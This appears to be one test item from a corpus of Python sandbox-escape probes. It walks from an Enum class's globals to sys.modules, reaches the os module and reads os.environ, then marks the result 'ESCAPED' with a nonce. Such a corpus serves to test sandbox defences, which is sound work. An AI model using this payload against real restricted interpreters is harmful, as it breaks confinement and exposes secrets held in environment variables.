# id: own-124 | family: class-walk | goal: the enum machinery calls a method of the code with its own class dictionary
# timeout: 3
import enum
class E(enum.Enum):
    def _generate_next_value_(name, start, count, last):
        return last
    A = enum.auto()
reached = E.__class__.__call__.__globals__['sys'].modules
result = 'ESCAPED' + '_@@NONCE@@' + str(reached['os'].environ)
